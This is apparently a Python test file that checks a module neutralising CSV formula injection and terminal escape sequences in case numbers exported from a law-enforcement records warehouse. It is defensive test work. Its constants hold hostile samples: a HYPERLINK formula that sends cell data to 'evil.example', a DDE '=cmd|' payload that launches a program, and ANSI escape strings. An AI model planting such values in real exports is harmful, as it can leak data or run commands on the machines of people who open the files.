"""Tests for ``routes/safe_output.py`` and every place that writes CSV or prints agency text.

Hostile case numbers (``=HYPERLINK(…)``, ``=cmd|…``, an ANSI escape sequence)
go into the warehouse, then out through the ``query`` CLI's CSV and
``pipelines deconflict``'s table: no cell may start a formula, no byte may
drive a terminal.
"""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pandas as pd
import pytest

from pipelines.cli import main
from routes import safe_output, warehouse
from tests.support.deconfliction_fixture import IDENTIFIERS, build_warehouse
from tests.support.warehouse_fixture import make_small_warehouse

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"open")'
DDE = "=cmd|' /C calc'!A0"
ESCAPE = "LA-\x1b[31m7\x1b]0;owned\x07"
HOSTILE = (HYPERLINK, DDE, ESCAPE, "+1+1", "-2+3", "@SUM(A1)", "\tTAB", "\rCR", "\x1b=cmd|x")
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def test_every_hostile_cell_is_neutralised() -> None:
    text = safe_output.csv_bytes(pd.DataFrame({"case_number": HOSTILE, "n": range(len(HOSTILE))})).decode()
    cells = _cells(text)
    assert not [c for c in cells if c.startswith(FORMULA_STARTS)]
    assert "\x1b" not in text and "\x07" not in text
    assert f"'{HYPERLINK}" in cells and f"'{DDE}" in cells and "'=cmd|x" in cells


def test_terminal_text_strips_every_control_character() -> None:
    assert safe_output.terminal_text(ESCAPE) == "LA-[31m7]0;owned"
    assert safe_output.terminal_text("a\u202eb\x9bc\x7f") == "abc"
    assert safe_output.terminal_text("one\ntwo", keep_lines=True) == "one\ntwo"


@pytest.fixture()
def hostile_warehouse(tmp_env: Path) -> pd.DataFrame:
    path = tmp_env / "warehouse" / "routes.duckdb"
    records = make_small_warehouse(path, n=300)
    la = records.index[records["source_task_force"] == "la"][: len(HOSTILE)]
    with warehouse.write_snapshot(path=path) as con:
        for number, index in enumerate(la):
            con.execute("UPDATE records SET case_number = ? WHERE source_id = ? AND record_id = ?",
                        [HOSTILE[number], records.at[index, "source_id"], records.at[index, "record_id"]])
    return records.loc[la]


def test_query_cli_csv_is_neutralised(hostile_warehouse: pd.DataFrame, capsys: pytest.CaptureFixture[str]) -> None:
    source = hostile_warehouse["source_id"].iloc[0]
    code = main(["query", "records", "records_for_source", "--as", "analyst", "--task-force", "la",
                 "--param", f"source_id={source}", "--param", "limit=5000"])
    out = capsys.readouterr().out
    assert code == 0
    cells = _cells(out)
    shown = [c for c in cells if "HYPERLINK" in c or "cmd|" in c or "[31m" in c]
    assert shown, "the hostile case numbers were not printed at all: the test proves nothing"
    assert not [c for c in cells if c.startswith(FORMULA_STARTS)]
    assert "\x1b" not in out and "\x07" not in out


def test_deconflict_prints_no_escape_sequence(tmp_env: Path, capsys: pytest.CaptureFixture[str]) -> None:
    rows = [(s, r, ESCAPE if s == "sdso" else c, DDE if s == "sdso" else ct, k, raw, seen)
            for s, r, c, ct, k, raw, seen in IDENTIFIERS]
    build_warehouse(rows)
    code = main(["deconflict", "--as", "analyst", "--task-force", "la", "--user", "desk"])
    out = capsys.readouterr().out
    assert code == 0
    assert "LA-[31m7]0;owned" in out, "the other agency's case number was not shown: the test proves nothing"
    assert "\x1b" not in out and "\x07" not in out
